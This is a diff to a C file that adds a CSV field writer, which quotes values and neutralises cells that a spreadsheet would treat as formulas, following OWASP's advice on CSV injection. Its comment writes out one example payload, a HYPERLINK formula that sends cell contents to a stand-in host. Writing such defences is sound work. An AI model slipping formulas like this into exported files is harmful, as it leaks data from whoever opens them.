@@ -153,3 +153,28 @@ char *table_fmt(const char *fmt, ...) {
   va_end(ap);
   return s;
 }
+
+void table_csv_field(FILE *o, const char *s, int first) {
+  /* A spreadsheet takes a cell starting with one of these for a formula (a tab or CR may
+   * precede one), so a unit name =HYPERLINK("http://x/?"&A1) would run when the file is
+   * opened; a leading quote keeps it text (OWASP's advice on CSV injection). */
+  int formula = s[0] != '\0' && strchr("=+-@\t\r", s[0]) != NULL;
+
+  if (!first)
+    fputc(',', o);
+  if (strpbrk(s, ",\"\r\n") == NULL) {
+    if (formula)
+      fputc('\'', o);
+    fputs(s, o);
+    return;
+  }
+  fputc('"', o);
+  if (formula)
+    fputc('\'', o);
+  for (; *s; s++) {
+    if (*s == '"')
+      fputc('"', o);
+    fputc(*s, o);
+  }
+  fputc('"', o);
+}
